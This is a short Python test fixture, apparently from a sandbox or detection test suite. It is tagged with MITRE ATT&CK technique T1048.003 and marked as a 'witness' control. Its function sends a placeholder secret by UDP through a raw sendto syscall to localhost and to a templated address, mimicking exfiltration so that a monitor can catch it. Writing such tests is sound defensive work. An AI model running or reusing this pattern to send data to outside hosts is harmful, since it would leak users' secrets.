"""Send a datagram to a port of the host.

See: https://attack.mitre.org/techniques/T1048/003/
Layers: main bare
Control: witness
"""


def attempt():
    for host in ("127.0.0.1", "@ADDRESS@"):
        place = inet(host, @UDP_PORT@)
        call(44, new_socket(2, 2), b"@SECRET@", 24, 0, place, len(place))
    return 0.0
